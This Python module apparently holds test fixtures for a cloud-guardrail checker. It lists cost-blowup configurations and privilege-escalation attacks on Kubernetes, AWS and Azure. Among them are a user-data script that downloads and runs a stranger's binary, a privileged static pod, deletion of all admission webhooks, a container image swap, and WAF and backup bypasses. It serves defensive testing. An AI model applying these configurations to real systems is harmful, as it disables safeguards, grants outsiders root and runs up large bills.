"""Attacks on the bill by other counters, and on the guardrails by tools and first starts (2026-11-28, third blind set).

Properties by pulumi-aws 7.51.1 and pulumi-azure-native 3.29.0; programs and custom resources by their documentation.
"""

import base64

from ..blind import GROUP, IMAGE, KEY, ME, TAGS, aws, az, crd, k8s, meta, pod, workload
from ..harness import Given
from ..idioms.fourth_kubernetes import AZURE_BUDGET, BUDGET
from . import Attack

MONEY = ("FJ-COST-", "FJ-ESC-")
ESC = ("FJ-ESC-", "FJ-EXP-", "FJ-IDN-", "FJ-RES-", "FJ-COST-")
R = "me-central-1"
RG = {"resourceGroupName": "rg-platform"}
HERE = {**RG, "location": "uaenorth", "tags": TAGS}
OURS = f"{GROUP}/providers/Microsoft"
STACK = Given("pulumi:pulumi:Stack", {}, "falaj-prod-uae")
EIGHT = {"cpu": "8", "memory": "32Gi"}
GPU = {"cpu": "8", "memory": "48Gi", "nvidia.com/gpu": "1"}
BUYS = "an autoscaler of another stack buys the machines"
STATIC = """#cloud-config
write_files:
- path: /etc/kubernetes/manifests/agent.yaml
  content: |
    {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "agent", "namespace": "kube-system"}, "spec": {
     "hostNetwork": true, "hostPID": true, "containers": [{"name": "a", "image": "registry.example.ae/agent:1",
     "securityContext": {"privileged": true}}]}}
"""
IMPORTED = '#cloud-config\nssh_import_id: ["gh:someone"]\n'
STARTED = ("#!/bin/sh\ncurl -fsSLo /usr/local/bin/agent https://github.com/someone/agent/releases/download/v1/agent\n"
           "chmod 755 /usr/local/bin/agent\n/usr/local/bin/agent --daemon\n")  # fmt: skip
BOTO = (
    "import boto3; boto3.client('ec2').run_instances(ImageId='ami-1', "
    "InstanceType='p5.48xlarge', MinCount=9, MaxCount=9)"
)


def _nightly(command: str) -> tuple[Given, ...]:
    return (k8s("batch/v1:CronJob", {"metadata": meta("nightly"), "spec": {
        "schedule": "0 2 * * *", "concurrencyPolicy": "Forbid", "jobTemplate": {"spec": {
            "activeDeadlineSeconds": 3600, "ttlSecondsAfterFinished": 600, "template": {
                "metadata": {"labels": TAGS}, "spec": pod({
                    "command": ["/bin/sh", "-c"], "args": [command]}, restartPolicy="Never")}}}}}),)  # fmt: skip


def _machine(user_data: str) -> tuple[Given, ...]:
    return (aws("ec2/LaunchTemplate", {
        "name": "nodes", "tags": TAGS, "userData": base64.b64encode(user_data.encode()).decode(), "metadataOptions": {
            "httpTokens": "required", "httpPutResponseHopLimit": 1}, "blockDeviceMappings": [{
                "deviceName": "/dev/xvda", "ebs": {"encrypted": "true", "kmsKeyId": KEY, "volumeType": "gp3",
                                                   "volumeSize": 40, "deleteOnTermination": "true"}}],
        "tagSpecifications": [{"resourceType": kind, "tags": TAGS} for kind in ("instance", "volume")]}),)  # fmt: skip


ATTACKS = (
    Attack("each minute a pipeline of training starts", MONEY, (STACK, aws("scheduler/Schedule", {
        "name": "retrain", "scheduleExpression": "rate(1 minute)", "flexibleTimeWindow": {"mode": "OFF"},
        "kmsKeyArn": KEY, "target": {
            "arn": f"arn:aws:sagemaker:{R}:{ME}:pipeline/finetune", "roleArn": f"arn:aws:iam::{ME}:role/schedules",
            "sagemakerPipelineParameters": {"pipelineParameters": [{"name": "Epochs", "value": "100"}]}}})),
        "critical", "43,200 trainings a month, all at once (EventBridge Scheduler, StartPipelineExecution)"),
    Attack("a training takes sixty-four machines of eight GPUs for a month", MONEY, (STACK, BUDGET,
        aws("sagemaker/TrainingJob", {
            "trainingJobName": "pretrain", "roleArn": f"arn:aws:iam::{ME}:role/training", "tags": TAGS,
            "algorithmSpecification": {"trainingImage": f"{ME}.dkr.ecr.{R}.amazonaws.com/train@sha256:" + "a" * 64,
                                       "trainingInputMode": "File"},
            "enableNetworkIsolation": True, "enableInterContainerTrafficEncryption": True,
            "vpcConfig": {"subnets": ["subnet-1"], "securityGroupIds": ["sg-1"]},
            "outputDataConfig": {"s3OutputPath": "s3://awsuae-models/pretrain", "kmsKeyId": KEY},
            "resourceConfig": {"instanceType": "ml.p5.48xlarge", "instanceCount": 64, "volumeSizeInGb": 500,
                               "volumeKmsKeyId": KEY},
            "stoppingCondition": {"maxRuntimeInSeconds": 2419200}})),
        "critical", "more than two million dollars (Amazon SageMaker, 'CreateTrainingJob', ResourceConfig)"),
    Attack("an autoscaler starts two thousand pods of eight processors", MONEY, (STACK,
        workload("apps/v1:Deployment", {"resources": {"requests": EIGHT, "limits": EIGHT}}),
        k8s("autoscaling/v2:HorizontalPodAutoscaler", {"metadata": meta(), "spec": {
            "minReplicas": 2, "maxReplicas": 2000, "scaleTargetRef": {
                "apiVersion": "apps/v1", "kind": "Deployment", "name": "x"}, "metrics": [{
                    "type": "Resource", "resource": {"name": "cpu", "target": {
                        "type": "Utilization", "averageUtilization": 1}}}]}}, "hpa")),
        "critical", f"16,000 processors as soon as one per cent is used: {BUYS} (Kubernetes, 'Horizontal Pod "
        "Autoscaling')"),
    Attack("a service keeps five hundred copies with a GPU by an annotation", MONEY, (STACK,
        k8s("serving.knative.dev/v1:Service", {"metadata": meta("chat"), "spec": {"template": {
            "metadata": {"labels": TAGS, "annotations": {"autoscaling.knative.dev/min-scale": "500",
                                                         "autoscaling.knative.dev/max-scale": "0"}},
            "spec": {"containerConcurrency": 1, **pod({"resources": {"requests": GPU, "limits": GPU}})}}}})),
        "critical", f"500 GPUs, used or not, and without a bound above: {BUYS} (Knative, 'Configuring scale bounds')"),
    Attack("a program of Spark has two thousand executors", MONEY, (STACK,
        crd("sparkoperator.k8s.io/v1beta2:SparkApplication", {
            "type": "Python", "mode": "cluster", "image": IMAGE, "mainApplicationFile": "local:///app/etl.py",
            "sparkVersion": "3.5.6", "driver": {"cores": 1, "memory": "2g", "serviceAccount": "app", "labels": TAGS},
            "executor": {"cores": 16, "instances": 2000, "memory": "64g", "labels": TAGS},
            "dynamicAllocation": {"enabled": True, "initialExecutors": 2000, "minExecutors": 2000,
                                  "maxExecutors": 4000}})),
        "critical", f"32,000 processors: {BUYS} (Spark operator, executor instances)"),
    Attack("an overlay makes the dearest machines the cheapest", MONEY, (STACK,
        k8s("karpenter.sh/v1alpha1:NodeOverlay", {"metadata": {"name": "prices", "labels": TAGS}, "spec": {
            "weight": 100, "requirements": [{"key": "karpenter.k8s.aws/instance-family", "operator": "In",
                                             "values": ["p5", "p5en", "u7i-12tb"]}], "price": "0.01"}})),
        "critical", "Karpenter buys what it believes to cost a cent, at 60 dollars an hour and more (Karpenter, "
        "'NodeOverlays')"),
    Attack("a buffer keeps machines for five hundred pods that are not there", MONEY, (STACK,
        k8s("autoscaling.x-k8s.io/v1alpha1:CapacityBuffer", {"metadata": meta("warm"), "spec": {
            "provisioningStrategy": "buffer.x-k8s.io/active-capacity", "replicas": 500,
            "podTemplateRef": {"name": "gpu-worker"}}})),
        "critical", "machines with 500 GPUs run empty (Cluster Autoscaler, 'CapacityBuffer')"),
    Attack("a thousand groups of containers are kept running", MONEY, (STACK, AZURE_BUDGET,
        az("containerinstance:NGroup", {
            **HERE, "ngroupsName": "workers", "zones": ["1"], "identity": {"type": "SystemAssigned"},
            "elasticProfile": {"desiredCount": 1000, "maintainDesiredCount": True}, "containerGroupProfiles": [{
                "resource": {"id": f"{OURS}.ContainerInstance/containerGroupProfiles/worker"}}],
            "updateProfile": {"updateMode": "Manual"}})),
        "critical", "each stopped group is started again (Azure Container Instances, 'NGroups')"),
    Attack("a pool keeps thousands of sessions ready", MONEY, (STACK, AZURE_BUDGET, az("app:ContainerAppsSessionPool", {
        **HERE, "sessionPoolName": "code", "containerType": "PythonLTS", "poolManagementType": "Dynamic",
        "scaleConfiguration": {"maxConcurrentSessions": 10000, "readySessionInstances": 5000},
        "dynamicPoolConfiguration": {"lifecycleConfiguration": {"lifecycleType": "Timed",
                                                                "cooldownPeriodInSeconds": 3600}},
        "sessionNetworkConfiguration": {"status": "EgressDisabled"}})),
        "critical", "5,000 sandboxes are charged by the hour, used or not (Azure Container Apps, 'Dynamic sessions')"),
    Attack("a sweep starts a thousand trials at once", MONEY, (STACK, az("machinelearningservices:Job", {
        **RG, "workspaceName": "ml", "id": "sweep", "properties": {
            "jobType": "Sweep", "experimentName": "tune", "computeId":
                f"{OURS}.MachineLearningServices/workspaces/ml/computes/gpu",
            "samplingAlgorithm": {"samplingAlgorithmType": "Random"}, "searchSpace": {"lr": ["uniform", [0.001, 0.1]]},
            "objective": {"goal": "Minimize", "primaryMetric": "loss"}, "tags": TAGS,
            "limits": {"jobLimitsType": "Sweep", "maxTotalTrials": 100000, "maxConcurrentTrials": 1000},
            "trial": {"command": "python train.py --lr ${{search_space.lr}}",
                      "environmentId": f"{OURS}.MachineLearningServices/workspaces/ml/environments/train/versions/4",
                      "resources": {"instanceCount": 4}}}})),
        "critical", "a hundred thousand trainings of four machines, without a timeout (Azure ML, 'SweepJobLimits')"),
    Attack("a nightly job makes a group five hundred machines large by its tool", MONEY, _nightly(
        "aws autoscaling set-desired-capacity --auto-scaling-group-name gpu --desired-capacity 500"),
        "critical", "no plan shows the machines (AWS CLI, 'set-desired-capacity')"),
    Attack("a nightly job scales a service to a thousand copies by its tool", MONEY, _nightly(
        "kubectl -n models scale deployment/vllm --replicas=1000"),
        "critical", f"a thousand GPUs: {BUYS} (kubectl, 'scale')"),
    Attack("a program starts machines by a library", MONEY, (workload("apps/v1:Deployment", {
        "command": ["python", "-c", BOTO]}, replicas=1),),
        "critical", "nine machines of 60 dollars an hour, in no plan, and again at each start (boto3, run_instances)"),
    Attack("machines of the bank run pipelines of a stranger", ESC, (AZURE_BUDGET, az("devopsinfrastructure:Pool", {
        **HERE, "poolName": "builds", "maximumConcurrency": 4,
        "devCenterProjectResourceId": f"{OURS}.DevCenter/projects/ai", "agentProfile": {"kind": "Stateless"},
        "organizationProfile": {"kind": "AzureDevOps", "organizations": [
            {"url": "https://dev.azure.com/someone", "parallelism": 4}],
            "permissionProfile": {"kind": "CreatorOnly"}},
        "fabricProfile": {"kind": "Vmss", "sku": {"name": "Standard_D2ads_v5"}, "images": [
            {"wellKnownImageName": "ubuntu-24.04/latest", "buffer": "*"}], "networkProfile": {
                "subnetId": f"{OURS}.Network/virtualNetworks/spoke/subnets/builds"}}})),
        "critical", "the stranger's programs run in the bank's network with its identities (Managed DevOps Pools, "
        "'Security')"),
    Attack("a job removes the webhooks of policies by its tool", ESC, _nightly(
        "kubectl delete validatingwebhookconfigurations,validatingadmissionpolicybindings --all"),
        "critical", "the cluster admits everything from then on (kubectl, 'delete')"),
    Attack("a job replaces the program of others by its tool", ESC, _nightly(
        "kubectl -n payments set image deployment/api api=docker.io/someone/api:2"),
        "critical", "no plan shows the image (kubectl, 'set image')"),
    Attack("a machine writes a pod into the folder of its kubelet", ESC, _machine(STATIC),
        "critical", "static pods are privileged and pass no admission (Kubernetes, 'Create static Pods')"),
    Attack("a machine takes the keys of a user of a forge", ESC, _machine(IMPORTED),
        "critical", "who has the account at GitHub is root on each node (cloud-init, 'SSH Import ID')"),
    Attack("a machine downloads a program and starts it by its path", ESC, _machine(STARTED),
        "critical", "nobody reviewed the program, and its owner replaces it (GitHub, releases may be changed)"),
    Attack("a namespace is left out of Gatekeeper by a label", ESC, (k8s("core/v1:Namespace", {"metadata": {
        "name": "team-a", "labels": {**TAGS, "admission.gatekeeper.sh/ignore": "team-a", **{
            f"pod-security.kubernetes.io/{mode}": "restricted" for mode in ("enforce", "audit", "warn")}}}}),),
        "critical", "no constraint is evaluated there (Gatekeeper, 'Exempting Namespaces')"),
    Attack("a patch leaves the controller of policies without pods", ESC, (k8s("apps/v1:DeploymentPatch", {
        "metadata": {"name": "kyverno-admission-controller", "namespace": "kyverno"}, "spec": {"replicas": 0}}),),
        "critical", "without pods Kyverno removes its webhooks, and everything is admitted (Kyverno, 'High "
        "Availability')"),
    Attack("requests of a tenant pass before all others", ESC, (k8s("flowcontrol.apiserver.k8s.io/v1:FlowSchema", {
        "metadata": {"name": "team-a", "labels": TAGS}, "spec": {
            "matchingPrecedence": 1, "priorityLevelConfiguration": {"name": "exempt"}, "rules": [{
                "subjects": [{"kind": "ServiceAccount", "serviceAccount": {"name": "*", "namespace": "team-a"}}],
                "resourceRules": [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"], "namespaces": ["*"],
                                   "clusterScope": True}]}]}}),),
        "major", "a loop of one tenant stops the API server for all (Kubernetes, 'API Priority and Fairness')"),
    Attack("addresses of a stranger are trusted by the detector", ESC, (aws("guardduty/IPSet", {
        "name": "office", "detectorId": "12abc34d567e8fa901bc2d34e56789f0", "activate": True, "format": "TXT",
        "location": f"https://s3.{R}.amazonaws.com/collector-lists/trusted.txt", "tags": TAGS}),),
        "major", "no finding names them, and the stranger writes the list (Amazon GuardDuty, 'Trusted IP lists')"),
    Attack("a rule of the firewall lets pass whoever sends a header", ESC, (aws("wafv2/WebAcl", {
        "name": "models", "scope": "REGIONAL", "defaultAction": {"block": {}}, "tags": TAGS,
        "visibilityConfig": {"cloudwatchMetricsEnabled": True, "metricName": "models", "sampledRequestsEnabled": True},
        "rules": [{"name": "debug", "priority": 0, "action": {"allow": {}}, "statement": {"byteMatchStatement": {
            "fieldToMatch": {"singleHeader": {"name": "x-debug"}}, "positionalConstraint": "EXACTLY",
            "searchString": "1", "textTransformations": [{"priority": 0, "type": "NONE"}]}},
            "visibilityConfig": {"cloudwatchMetricsEnabled": True, "metricName": "debug",
                                 "sampledRequestsEnabled": True}}]}),),
        "major", "the first rule that matches ends the evaluation: managed rules never see it (WAF, 'Rule action')"),
    Attack("a plan of backups leaves out every database", ESC, (aws("backup/Selection", {
        "name": "all", "planId": "11111111-2222-3333-4444-555555555555", "iamRoleArn": f"arn:aws:iam::{ME}:role/backup",
        "resources": ["*"], "notResources": ["arn:aws:rds:*:*:db:*", "arn:aws:rds:*:*:cluster:*",
                                             "arn:aws:dynamodb:*:*:table/*"]}),),
        "major", "the plan looks as if it were for all, and a deleted database is gone (AWS Backup, NotResources)"),
)  # fmt: skip
